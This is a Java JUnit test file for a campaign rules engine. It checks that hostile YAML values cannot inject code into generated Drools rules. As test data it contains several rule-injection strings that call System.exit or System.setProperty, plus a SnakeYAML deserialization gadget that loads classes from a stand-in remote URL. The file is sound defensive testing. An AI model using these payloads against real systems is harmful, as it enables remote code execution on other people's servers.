package dev.herald.rules.campaign;

import dev.herald.engine.decision.RecommendationScore;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import java.util.List;

import static dev.herald.rules.campaign.TestCampaigns.build;
import static dev.herald.rules.campaign.TestCampaigns.load;
import static dev.herald.rules.campaign.TestCampaigns.order;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

/**
 * Hostile values in campaign definitions are rejected before DRL is generated, or end up as inert string
 * literals: nothing a marketer writes runs. A canary system property shows whether any code ran.
 */
class CampaignInjectionTest {

    private static final String CANARY = "herald.injection.canary";

    private static String campaign(String category) {
        return """
                id: hostile
                trigger:
                  event: order_completed
                recommendation:
                  category: %s
                template: welcome
                """.formatted(category);
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "'home\" ) then System.exit(1); end rule \"x'",
            "'a\"; System.setProperty(\"herald.injection.canary\", \"ran\"); \"'",
            "'${System.exit(1)}'",
            "'home\\\" || true || \\\"'",
            "'x\" ) eval( System.setProperty(\"herald.injection.canary\",\"ran\") != null ) Attribute( name == \"'",
            "\"home\\nthen\\n  System.exit(1);\\nend\"",
            "'@{campaignId}{}'"})
    void valuesThatCouldBreakOutOfALiteralAreRejectedWithTheirLine(String hostile) {
        CampaignLoader.Loaded loaded = load("hostile.yaml", campaign(hostile));

        assertThat(loaded.campaigns()).isEmpty();
        assertThat(loaded.errors()).singleElement().satisfies(error -> {
            assertThat(error.line()).isEqualTo(5);
            assertThat(error.message()).contains("is not allowed");
        });
        assertThat(System.getProperty(CANARY)).isNull();
    }

    @Test
    void javaAndMvelCallsThatFitTheAllowedCharactersStayInertText() {
        String call = "System.setProperty(herald.injection.canary, ran)";
        CampaignRuleBase rules = build("hostile.yaml", campaign("'" + call + "'"),
                "then.yaml", campaign("then").replace("hostile", "then-word"));

        assertThat(rules.drl()).contains("bestScore(\"" + call + "\")");
        // The text is compared, never called: a recommendation with exactly that category matches...
        assertThat(rules.evaluate(order("c1", 10, 1, List.of(),
                List.of(new RecommendationScore("c1", "p", call, 0.5)), true, List.of())).winner())
                .contains("hostile");
        // ...and nothing ran while compiling or evaluating.
        assertThat(System.getProperty(CANARY)).isNull();
        assertThat(rules.evaluate(order("c1", 10, 1, List.of(),
                List.of(new RecommendationScore("c1", "p", "then", 0.5)), true, List.of())).winner())
                .contains("then-word");
    }

    @Test
    void namesThatAreNotPlainIdentifiersAreRejected() {
        CampaignLoader.Loaded loaded = load("x.yaml", """
                id: "x\\" salience 100 when then System.exit(1); end rule \\"y"
                trigger:
                  event: "order_completed\\" ) then System.exit(1); end"
                template: "welcome\\"); System.exit(1); //"
                """);
        assertThat(loaded.campaigns()).isEmpty();
        assertThat(loaded.errors()).extracting(e -> e.line()).containsExactly(1, 3, 4);
    }

    @Test
    void conditionsCannotSmuggleCode() {
        CampaignLoader.Loaded loaded = load("c.yaml", """
                trigger:
                  event: order_completed
                  conditions:
                    - total >= 1 || System.exit(1)
                    - currency == GBP" || System.exit(1) || "
                    - System.exit(1)
                template: welcome
                """);
        assertThat(loaded.errors()).extracting(e -> e.line()).containsExactly(4, 5, 6);
        assertThat(loaded.errors().get(0).message()).startsWith("type mismatch: total is a number");
        assertThat(loaded.errors().get(1).message()).contains("is not allowed");
        assertThat(loaded.errors().get(2).message()).startsWith("cannot read condition 'System.exit(1)'");
    }

    @Test
    void theGeneratorItselfRefusesUnsafeLiterals() {
        assertThatThrownBy(() -> DrlGenerator.string("a\" then"))
                .isInstanceOf(IllegalArgumentException.class);
        assertThatThrownBy(() -> DrlGenerator.string("a\nb")).isInstanceOf(IllegalArgumentException.class);
        assertThat(DrlGenerator.number(1e21)).isEqualTo("1000000000000000000000");
    }

    @Test
    void yamlTagsCannotInstantiateClasses() {
        CampaignLoader.Loaded loaded = load("t.yaml", """
                id: tagged
                trigger:
                  event: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://x/"]]]]
                template: welcome
                """);
        assertThat(loaded.campaigns()).isEmpty();
        assertThat(loaded.errors()).singleElement().satisfies(e -> assertThat(e.line()).isEqualTo(3));
    }
}
